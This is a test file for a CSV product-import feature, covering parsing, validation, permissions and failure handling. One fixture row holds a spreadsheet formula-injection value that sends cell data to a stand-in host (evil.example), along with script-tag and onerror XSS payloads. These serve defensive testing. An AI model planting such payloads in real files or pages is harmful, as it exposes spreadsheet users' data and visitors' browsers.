import { beforeAll, describe, expect, test, vi } from 'vitest'

import { csvCell, parseCsv, toCsv } from '~/modules/exporters/csv'
import {
  getImport,
  getImportStatus,
  importColumns,
  readImportFile,
  type ReportEntry,
  startImport,
} from '~/modules/exporters/csv-import.server'
import type { Member } from '~/modules/exporters/membership.server'
import { action as uploadAction, loader as uploadLoader } from '~/routes/$locale.exporter.import._index'
import { loader as progressLoader } from '~/routes/$locale.exporter.import.$importId'
import { loader as reportLoader } from '~/routes/$locale.exporter.import.$importId.report[.]csv'
import { loader as statusLoader } from '~/routes/$locale.exporter.import.$importId.status'
import { loader as templateLoader } from '~/routes/$locale.exporter.import.template[.]csv'
import { getDb } from '~/utils/db.server'

import { sessionCookieFor } from '../../support/sessions'

type Company = { exporterId: number; user: Member; cookie: string }
let companyA: Company
let companyB: Company
let buyerCookie: string
let pendingCompany: Company

async function memberOf(exporterId: number, role: 'exporter' | 'buyer' = 'exporter'): Promise<Company> {
  const user = await getDb().user.create({
    data: {
      email: `${role}-${exporterId}-${Math.random().toString(36).slice(2)}@import.test`,
      passwordHash: 'x',
      displayName: 'Importer',
      role,
      exporterId,
    },
    select: { id: true, role: true, exporterId: true },
  })
  return { exporterId, user: { ...user, role: user.role as Member['role'] }, cookie: await sessionCookieFor(user.id) }
}

beforeAll(async () => {
  const db = getDb()
  const [a, b] = await db.exporter.findMany({
    where: { status: 'verified' },
    orderBy: { id: 'asc' },
    take: 2,
    select: { id: true },
  })
  const pending = await db.exporter.findFirstOrThrow({ where: { status: 'pending' }, select: { id: true } })
  companyA = await memberOf(a.id)
  companyB = await memberOf(b.id)
  pendingCompany = await memberOf(pending.id)
  const buyer = await db.user.create({
    data: { email: `buyer-${Date.now()}@import.test`, passwordHash: 'x', displayName: 'Buyer' },
    select: { id: true },
  })
  buyerCookie = await sessionCookieFor(buyer.id)
})

// ---------------------------------------------------------------- helpers

/** CSV as a person's spreadsheet writes it: every cell quoted, nothing escaped for formulas. */
function rawCsv(rows: string[][]) {
  return rows.map((cells) => cells.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')).join('\r\n') + '\r\n'
}

const header = importColumns.map((column) => column.name)
function row(values: Record<string, string>) {
  return header.map((column) => values[column] ?? '')
}
const bytes = (text: string) => new TextEncoder().encode(text)

const honey = {
  category: 'natural-honey',
  hs_code: '040900',
  name_en: 'Buckwheat honey, 500 g',
  name_ru: 'Гречишный мёд, 500 г',
  base_price: '1234.50',
  currency: 'KZT',
  stock: '10',
  sale_mode: 'retail',
  unit: 'pack',
  origin_region: 'east-kazakhstan',
  certificates: 'ST-KZ; Halal',
}

async function untilFinished(user: Member, importId: number) {
  for (let attempt = 0; attempt < 600; attempt++) {
    const status = await getImportStatus(user, String(importId))
    if (status && (status.status === 'done' || status.status === 'failed')) return status
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
  throw new Error(`import ${importId} did not finish`)
}

async function imported(company: Company, text: string) {
  const started = await startImport(company.user, { fileName: 'products.csv', bytes: bytes(text) })
  if (!started.ok) throw new Error(`refused: ${started.error.key}`)
  await untilFinished(company.user, started.importId)
  const found = await getImport(company.user, String(started.importId))
  return found!
}

async function counts() {
  const db = getDb()
  return {
    products: await db.product.count(),
    translations: await db.productTranslation.count(),
    tiers: await db.priceTier.count(),
    certificates: await db.productCertificate.count(),
    imports: await db.productImport.count(),
  }
}

const args = (url: string, params: Record<string, string>, cookie?: string, init: RequestInit = {}) => ({
  request: new Request(`http://localhost${url}`, {
    ...init,
    headers: { ...(cookie ? { Cookie: cookie } : {}), ...(init.headers ?? {}) },
  }),
  params,
  context: {},
})

async function outcome(promise: Promise<unknown>) {
  try {
    const result = await promise
    return result instanceof Response
      ? result
      : { status: (result as { init?: { status?: number } }).init?.status ?? 200, result }
  } catch (error) {
    if (error instanceof Response) return error
    throw error
  }
}

function uploadRequest(locale: string, cookie: string, file: Blob, name = 'products.csv') {
  const form = new FormData()
  form.append('file', file, name)
  return new Request(`http://localhost/${locale}/exporter/import`, { method: 'POST', body: form, headers: { Cookie: cookie } })
}

// ---------------------------------------------------------------- the parser

describe('CSV reading and writing', () => {
  test('reads RFC 4180 quoting: commas, doubled quotes and line breaks inside cells, CRLF, LF and CR, a BOM, counting blank rows', () => {
    const parsed = parseCsv('\uFEFFa,b,c\r\n"1,5","say ""hi""","two\r\nlines"\n,,\nx,,"z"')
    expect(parsed).toEqual({
      ok: true,
      records: [
        { row: 1, cells: ['a', 'b', 'c'] },
        { row: 2, cells: ['1,5', 'say "hi"', 'two\r\nlines'] },
        { row: 4, cells: ['x', '', 'z'] },
      ],
    })
    expect(parseCsv('a\rb\r\n\nc')).toEqual({
      ok: true,
      records: [
        { row: 1, cells: ['a'] },
        { row: 2, cells: ['b'] },
        { row: 4, cells: ['c'] },
      ],
    })
  })

  test('refuses an unclosed quote and a quote inside an unquoted cell, saying where', () => {
    expect(parseCsv('a,b\n1,"open\n2,3\n')).toEqual({ ok: false, error: 'unterminatedQuote', row: 2 })
    expect(parseCsv('a,b\n1,2\n3,4"5\n')).toEqual({ ok: false, error: 'strayQuote', row: 3 })
    expect(parseCsv('a,b\n\n"3"x,4\n')).toEqual({ ok: false, error: 'strayQuote', row: 3 })
  })

  test('writes cells a spreadsheet would run as formulas with a leading apostrophe, and reads back what it wrote', () => {
    expect(['=HYPERLINK("http://x")', '+1', '-5', '@SUM(A1)', 'plain'].map(csvCell)).toEqual([
      `"'=HYPERLINK(""http://x"")"`,
      "'+1",
      "'-5",
      "'@SUM(A1)",
      'plain',
    ])
    const rows = [
      ['name', 'note'],
      ['Мёд "Алтын", 1 кг', 'line one\r\nline two'],
      ['蜂蜜', ' spaced '],
    ]
    const parsed = parseCsv(toCsv(rows))
    expect(parsed.ok && parsed.records.map((record) => record.cells)).toEqual(rows)
  })
})

// ---------------------------------------------------------------- a file with good and bad rows

describe('importing a file with good and bad rows', () => {
  let report: ReportEntry[]
  let before: Awaited<ReturnType<typeof counts>>
  let after: Awaited<ReturnType<typeof counts>>
  let result: Awaited<ReturnType<typeof imported>>

  const hostileName = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
  const hostileDescription = '<script>alert(1)</script> <img src=x onerror=alert(2)>'
  const bidiName = 'Мёд \u202Eгод 2024\u202C'

  beforeAll(async () => {
    const file = rawCsv([
      header,
      row(honey), // row 2: good
      row({
        ...honey,
        name_en: 'Honey "Gold", 1 kg',
        name_ru: '',
        description_en: 'Line one\nLine two, with "quotes" and a comma',
        base_price: '1300',
        currency: 'CNY',
        sale_mode: 'wholesale',
        moq: '10',
        tiers: '100:1234.50;500:1200',
        certificates: '',
      }), // row 3: good, embedded line break, quotes and commas
      row({ ...honey, category: 'no-such-category' }), // row 4
      row({ ...honey, hs_code: '100190' }), // row 5: wheat's code in the honey category
      row({ ...honey, base_price: '12,5.0' }), // row 6
      row({ ...honey, stock: '-5' }), // row 7
      row({ ...honey, moq: '10', tiers: '500:1200;100:1234.50' }), // row 8: quantities out of order
      row({ ...honey, name_en: '', name_ru: '', description_en: 'No name at all' }), // row 9
      row({ ...honey, origin_region: 'mars' }), // row 10
      row({ ...honey, name_en: hostileName, name_ru: bidiName, description_en: hostileDescription }), // row 11: good, stored as typed
      row({
        ...honey,
        name_en: '',
        name_ru: '',
        name_zh_hans: '荞麦蜂蜜',
        currency: 'USD',
        base_price: '0.10',
        certificates: 'Organic (EU)',
      }), // row 12: good
      row({
        ...honey,
        base_price: '1.005',
        currency: 'usd',
        sale_mode: 'retail-ish',
        unit: 'barrel',
        certificates: 'ST-KZ;Made up',
      }), // row 13: several errors
      [...row(honey).slice(0, 5)], // row 14: cells missing
    ])
    before = await counts()
    result = await imported(companyA, file)
    report = result.report.entries
    after = await counts()
  })

  test('creates exactly the good rows, as drafts of the importing company, and reports every row', async () => {
    expect(result).toMatchObject({ status: 'done', totalRows: 13, processedRows: 13, createdCount: 4, errorCount: 9 })
    expect(report.map((entry) => [entry.row, entry.status])).toEqual([
      [2, 'created'],
      [3, 'created'],
      [4, 'error'],
      [5, 'error'],
      [6, 'error'],
      [7, 'error'],
      [8, 'error'],
      [9, 'error'],
      [10, 'error'],
      [11, 'created'],
      [12, 'created'],
      [13, 'error'],
      [14, 'error'],
    ])
    const created = report.filter((entry) => entry.status === 'created')
    const products = await getDb().product.findMany({
      where: { id: { in: created.map((entry) => entry.productId) } },
      select: { slug: true, status: true, exporterId: true },
    })
    expect(products).toHaveLength(4)
    for (const product of products) expect(product).toMatchObject({ status: 'draft', exporterId: companyA.exporterId })
    for (const entry of created) expect(entry.slug).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*-[0-9a-f]{6}$/)
    expect(created[0].slug).toMatch(/^buckwheat-honey-500-g-[0-9a-f]{6}$/)
    expect(created[3].slug).toMatch(/^product-[0-9a-f]{6}$/)
  })

  test('says what is wrong with each bad row, by column, as translation keys', () => {
    const errorsOf = (rowNumber: number) => {
      const entry = report.find((candidate) => candidate.row === rowNumber)
      return entry?.status === 'error' ? entry.errors.map((error) => [error.column, error.key]) : []
    }
    expect(errorsOf(4)).toEqual([['category', 'rowErrors.unknownCategory']])
    expect(errorsOf(5)).toEqual([['hs_code', 'rowErrors.hsCodeOutsideCategory']])
    expect(errorsOf(6)).toEqual([['base_price', 'rowErrors.priceFormat']])
    expect(errorsOf(7)).toEqual([['stock', 'rowErrors.wholeNumber']])
    expect(errorsOf(8)).toEqual([['tiers', 'rowErrors.tierQuantitiesIncreasing']])
    expect(errorsOf(9)).toEqual([
      ['description_en', 'rowErrors.descriptionWithoutName'],
      ['name_*', 'rowErrors.nameRequired'],
    ])
    expect(errorsOf(10)).toEqual([['origin_region', 'rowErrors.unknownRegion']])
    expect(errorsOf(13)).toEqual([
      ['base_price', 'rowErrors.priceTooPrecise'],
      ['sale_mode', 'rowErrors.saleMode'],
      ['unit', 'rowErrors.unit'],
      ['certificates', 'rowErrors.unknownCertificate'],
    ])
    expect(errorsOf(14)).toEqual([['', 'rowErrors.cellCount']])
    const hsError = report.find((entry) => entry.row === 5)
    expect(hsError?.status === 'error' && hsError.errors[0].values).toEqual({ value: '100190', headings: '0409' })
  })

  test('writes nothing for a bad row: products, texts, tiers and certificates grow by the good rows only', () => {
    expect(after.products - before.products).toBe(4)
    // row 2: en + ru, row 3: en, row 11: en + ru, row 12: zh-hans
    expect(after.translations - before.translations).toBe(6)
    expect(after.tiers - before.tiers).toBe(2)
    // rows 2 and 11: ST-KZ and Halal; row 12: Organic (EU)
    expect(after.certificates - before.certificates).toBe(5)
    expect(after.imports - before.imports).toBe(1)
  })

  test('keeps prices exact in minor units, tiers in order, and text as typed', async () => {
    const slugs = report.flatMap((entry) => (entry.status === 'created' ? [entry.slug] : []))
    const products = await getDb().product.findMany({
      where: { slug: { in: slugs } },
      orderBy: { id: 'asc' },
      select: {
        basePriceMinor: true,
        baseCurrency: true,
        minOrderQuantity: true,
        saleMode: true,
        stock: true,
        translations: { select: { locale: true, name: true, description: true }, orderBy: { locale: 'asc' } },
        priceTiers: { select: { minQuantity: true, unitPriceMinor: true }, orderBy: { minQuantity: 'asc' } },
        certificates: { select: { kind: true }, orderBy: { kind: 'asc' } },
      },
    })
    expect(products.map((p) => [p.basePriceMinor, p.baseCurrency])).toEqual([
      [123450, 'KZT'],
      [130000, 'CNY'],
      [123450, 'KZT'],
      [10, 'USD'],
    ])
    expect(products[0].certificates.map((c) => c.kind)).toEqual(['Halal', 'ST-KZ'])
    expect(products[1]).toMatchObject({
      minOrderQuantity: 10,
      saleMode: 'wholesale',
      priceTiers: [
        { minQuantity: 100, unitPriceMinor: 123450 },
        { minQuantity: 500, unitPriceMinor: 120000 },
      ],
      translations: [{ locale: 'en', name: 'Honey "Gold", 1 kg', description: 'Line one\nLine two, with "quotes" and a comma' }],
    })
    expect(products[2].translations).toEqual([
      { locale: 'en', name: hostileName, description: hostileDescription },
      { locale: 'ru', name: bidiName, description: '' },
    ])
    expect(products[3].translations).toEqual([{ locale: 'zh-hans', name: '荞麦蜂蜜', description: '' }])
  })

  test('the progress page shows the report; the report downloads as CSV in the reader language', async () => {
    const page = (await progressLoader(
      args(`/ru/exporter/import/${result.id}?errors=1`, { locale: 'ru', importId: String(result.id) }, companyA.cookie),
    )) as Awaited<ReturnType<typeof progressLoader>>
    expect(page.status).toBe('done')
    expect(page.report.entries).toHaveLength(9)
    expect(page.title).toContain('products.csv')
    const response = (await reportLoader(
      args(`/ru/exporter/import/${result.id}/report.csv`, { locale: 'ru', importId: String(result.id) }, companyA.cookie),
    )) as Response
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('Content-Disposition')).toMatch(/^attachment/)
    const parsed = parseCsv(await response.text())
    if (!parsed.ok) throw new Error('the report does not parse')
    expect(parsed.records[0].cells).toEqual(['row', 'result', 'slug', 'name', 'errors'])
    expect(parsed.records).toHaveLength(14)
    expect(parsed.records.find((record) => record.cells[0] === '4')?.cells[4]).toBe('category: Категории «no-such-category» нет.')
    expect(parsed.records.map((record) => record.cells[3])).toContain('荞麦蜂蜜')
  })

  test('the report names each new product as the exporter wrote it, not by its slug (issue 14)', async () => {
    const page = (await progressLoader(
      args(`/ru/exporter/import/${result.id}`, { locale: 'ru', importId: String(result.id) }, companyA.cookie),
    )) as Awaited<ReturnType<typeof progressLoader>>
    const names = page.report.entries.flatMap((entry) => (entry.status === 'created' ? [entry.name?.text] : []))
    expect(names).toContain('Honey "Gold", 1 kg')
    expect(names).toContain('荞麦蜂蜜')
    expect(names.some((name) => name === undefined || /^product-[0-9a-f]{6}$/.test(name))).toBe(false)
  })
})

// ---------------------------------------------------------------- files refused

describe('files that are refused before anything is stored', () => {
  const headerLine = header.join(',') + '\n'
  const goodRow = rawCsv([row(honey)])

  test.each([
    ['an empty file', new Uint8Array(0), 'errors.empty'],
    ['a header only', bytes(headerLine), 'errors.noRows'],
    ['blank lines only after the header', bytes(headerLine + '\n\n,,,\n'), 'errors.noRows'],
    ['a PNG named .csv', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), 'errors.notText'],
    ['an .xlsx (zip) file', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0x06, 0]), 'errors.notText'],
    ['text with a NUL byte', bytes(headerLine + 'a\u0000b\n'), 'errors.notText'],
    ['UTF-16 text', new Uint8Array([0xff, 0xfe, 0x61, 0x00]), 'errors.notUtf8'],
    ['Windows-1251 text', new Uint8Array([...bytes(headerLine), 0xcc, 0xb8, 0xe4, 0x0a]), 'errors.notUtf8'],
    ['semicolon-separated columns', bytes(header.join(';') + '\n' + 'a;b\n'), 'errors.semicolons'],
    ['an unknown column', bytes(headerLine.trim() + ',colour\n' + goodRow), 'errors.unknownColumns'],
    ['a missing required column', bytes(header.filter((c) => c !== 'hs_code').join(',') + '\nx\n'), 'errors.missingColumns'],
    ['no name column', bytes(header.filter((c) => !c.startsWith('name_')).join(',') + '\nx\n'), 'errors.noNameColumn'],
    ['an unclosed quote', bytes(headerLine + '"natural-honey,040900\n'), 'errors.unterminatedQuote'],
  ])('%s', async (_, file, key) => {
    const before = await counts()
    const result = await startImport(companyA.user, { fileName: 'x.csv', bytes: file })
    expect(result).toMatchObject({ ok: false, error: { key } })
    expect(await counts()).toEqual(before)
  })

  test('more than 5,000 rows', () => {
    const text = headerLine + rawCsv(Array.from({ length: 5001 }, () => row(honey)))
    expect(readImportFile(bytes(text))).toMatchObject({ ok: false, error: { key: 'errors.tooManyRows', values: { max: 5000 } } })
    expect(readImportFile(bytes(headerLine + rawCsv(Array.from({ length: 5000 }, () => row(honey)))))).toMatchObject({ ok: true })
  })

  test('through the upload form: an oversized, a binary and an empty file get a 400 with the reason', async () => {
    const before = await counts()
    const cases: [Blob, string][] = [
      [new Blob([new Uint8Array(5 * 1024 * 1024 + 1).fill(0x61)]), 'errors.tooLarge'],
      [new Blob([new Uint8Array([0x25, 0x50, 0x44, 0x46, 0x2d, 0x31, 0x2e, 0x37, 0x0a, 0x00, 0x01])]), 'errors.notText'],
      [new Blob([]), 'errors.noFile'],
    ]
    for (const [file, key] of cases) {
      const answer = await outcome(
        uploadAction({ request: uploadRequest('kk', companyA.cookie, file), params: { locale: 'kk' }, context: {} }),
      )
      expect(answer.status).toBe(400)
      expect((answer as { result: { data: { error: { key: string } } } }).result.data.error.key).toBe(key)
    }
    expect(await counts()).toEqual(before)
  })
})

// ---------------------------------------------------------------- through the routes

describe('the upload form, progress and status', () => {
  test('an upload answers with a redirect to its progress page; the status moves to the end', async () => {
    const rows = Array.from({ length: 300 }, (_, index) => row({ ...honey, name_en: `Honey lot ${index + 1}`, name_ru: '' }))
    const file = new Blob([rawCsv([header, ...rows])], { type: 'text/csv' })
    const response = (await uploadAction({
      request: uploadRequest('en', companyB.cookie, file, 'lots.csv'),
      params: { locale: 'en' },
      context: {},
    })) as Response
    expect(response.status).toBe(302)
    const location = response.headers.get('Location')!
    expect(location).toMatch(/^\/en\/exporter\/import\/\d+$/)
    const importId = location.split('/').pop()!

    const seen: number[] = []
    let last: { status: string; processedRows: number; totalRows: number; createdCount: number; errorCount: number } | undefined
    for (let attempt = 0; attempt < 2000; attempt++) {
      const status = (await statusLoader(args(`${location}/status`, { locale: 'en', importId }, companyB.cookie))) as Response
      expect(status.headers.get('Cache-Control')).toBe('private, no-store')
      last = await status.json()
      seen.push(last!.processedRows)
      if (last!.status === 'done') break
      await new Promise((resolve) => setTimeout(resolve, 5))
    }
    expect(last).toEqual({ status: 'done', totalRows: 300, processedRows: 300, createdCount: 300, errorCount: 0 })
    expect(seen.some((processed) => processed > 0 && processed < 300)).toBe(true)
    expect(seen).toEqual([...seen].sort((a, b) => a - b))

    const list = await uploadLoader(args('/en/exporter/import', { locale: 'en' }, companyB.cookie))
    expect(list.imports[0]).toMatchObject({ id: Number(importId), fileName: 'lots.csv', status: 'done', createdCount: 300 })
  })

  test('one import at a time per company', async () => {
    const file = bytes(rawCsv([header, row(honey)]))
    const first = await startImport(companyA.user, { fileName: 'one.csv', bytes: file })
    const second = await startImport(companyA.user, { fileName: 'two.csv', bytes: file })
    expect(first.ok).toBe(true)
    expect(second).toEqual({ ok: false, error: { key: 'errors.importRunning' } })
    if (first.ok) await untilFinished(companyA.user, first.importId)
  })

  test('the template downloads, parses with our parser and imports as it is', async () => {
    const response = (await templateLoader(
      args('/en/exporter/import/template.csv', { locale: 'en' }, companyA.cookie),
    )) as Response
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="pavilion-products-template.csv"')
    const text = await response.text()
    const parsed = parseCsv(text)
    if (!parsed.ok) throw new Error('the template does not parse')
    expect(parsed.records[0].cells).toEqual(header)
    expect(parsed.records.slice(1).every((record) => record.cells.length === header.length)).toBe(true)
    const result = await imported(companyA, text)
    expect(result).toMatchObject({ status: 'done', createdCount: parsed.records.length - 1, errorCount: 0 })
    // what the template says is what was stored
    const flour = result.report.entries[1]
    const product = await getDb().product.findUniqueOrThrow({
      where: { id: flour.status === 'created' ? flour.productId : -1 },
      select: {
        basePriceMinor: true,
        baseCurrency: true,
        priceTiers: { select: { minQuantity: true, unitPriceMinor: true }, orderBy: { minQuantity: 'asc' } },
      },
    })
    expect(product).toEqual({
      basePriceMinor: 31000,
      baseCurrency: 'USD',
      priceTiers: [
        { minQuantity: 100, unitPriceMinor: 30000 },
        { minQuantity: 500, unitPriceMinor: 29550 },
      ],
    })
  })
})

// ---------------------------------------------------------------- who may see what

describe('permissions', () => {
  let importOfA: number

  beforeAll(async () => {
    importOfA = (await imported(companyA, rawCsv([header, row(honey)]))).id
  })

  test('another company cannot see, poll or download an import: 404', async () => {
    expect(await getImportStatus(companyB.user, String(importOfA))).toBeNull()
    expect(await getImport(companyB.user, String(importOfA))).toBeNull()
    const params = { locale: 'en', importId: String(importOfA) }
    for (const loader of [progressLoader, statusLoader, reportLoader]) {
      const answer = await outcome(loader(args(`/en/exporter/import/${importOfA}`, params, companyB.cookie)))
      expect(answer.status).toBe(404)
    }
    const list = await uploadLoader(args('/en/exporter/import', { locale: 'en' }, companyB.cookie))
    expect(list.imports.map((entry) => entry.id)).not.toContain(importOfA)
  })

  test('a nonsense id is a 404, the owner sees the import', async () => {
    for (const importId of ['abc', '-1', '99999999', '1e3']) {
      const answer = await outcome(
        progressLoader(args(`/en/exporter/import/${importId}`, { locale: 'en', importId }, companyA.cookie)),
      )
      expect(answer.status).toBe(404)
    }
    const own = await outcome(
      progressLoader(args(`/en/exporter/import/${importOfA}`, { locale: 'en', importId: String(importOfA) }, companyA.cookie)),
    )
    expect(own.status).toBe(200)
  })

  test('anonymous visitors sign in first; buyers get 403; an unverified company cannot import', async () => {
    const anonymous = await outcome(uploadLoader(args('/en/exporter/import', { locale: 'en' })))
    expect(anonymous.status).toBe(302)
    expect((anonymous as Response).headers.get('Location')).toMatch(/^\/en\/login\?redirectTo=/)
    const buyer = await outcome(uploadLoader(args('/en/exporter/import', { locale: 'en' }, buyerCookie)))
    expect(buyer.status).toBe(403)
    const upload = await outcome(
      uploadAction({ request: uploadRequest('en', buyerCookie, new Blob(['x'])), params: { locale: 'en' }, context: {} }),
    )
    expect(upload.status).toBe(403)
    await expect(
      startImport(pendingCompany.user, { fileName: 'x.csv', bytes: bytes(rawCsv([header, row(honey)])) }),
    ).rejects.toHaveProperty('status', 403)
    await expect(getImportStatus(pendingCompany.user, String(importOfA))).rejects.toHaveProperty('status', 403)
  })

  test('the exporter comes from the session, never from the file', async () => {
    const text = rawCsv([
      [...header, 'exporter_id'],
      [...row(honey), String(companyB.exporterId)],
    ])
    expect(readImportFile(bytes(text))).toMatchObject({
      ok: false,
      error: { key: 'errors.unknownColumns', values: { columns: 'exporter_id' } },
    })
  })
})

// ---------------------------------------------------------------- a failure in the middle

describe('an import that fails part-way', () => {
  test('is marked failed with the rows done so far reported, and leaves no half-written product', async () => {
    const db = getDb()
    const rows = [
      ...Array.from({ length: 30 }, (_, index) => row({ ...honey, name_en: `Plain lot ${index + 1}` })),
      row({ ...honey, moq: '1', tiers: '10:1200' }),
      row(honey),
    ]
    const before = await counts()
    // the tiers table disappears, as a database failing under the import would
    await db.$executeRawUnsafe('ALTER TABLE "PriceTier" RENAME TO "PriceTier_away"')
    const errors = vi.spyOn(console, 'error').mockImplementation(() => {})
    let result: Awaited<ReturnType<typeof imported>>
    try {
      result = await imported(companyA, rawCsv([header, ...rows]))
    } finally {
      await db.$executeRawUnsafe('ALTER TABLE "PriceTier_away" RENAME TO "PriceTier"')
    }
    expect(errors).toHaveBeenCalledWith(expect.stringMatching(/^Product import \d+ stopped after 30 rows/), expect.anything())
    errors.mockClear()
    expect(result).toMatchObject({ status: 'failed', totalRows: 32, processedRows: 30, createdCount: 30, errorCount: 0 })
    expect(result.finishedAt).toBeInstanceOf(Date)
    expect(result.report.entries).toHaveLength(30)
    const after = await counts()
    expect(after.products - before.products).toBe(30)
    expect(after.translations - before.translations).toBe(60)
    expect(after.tiers).toBe(before.tiers)
  })
})
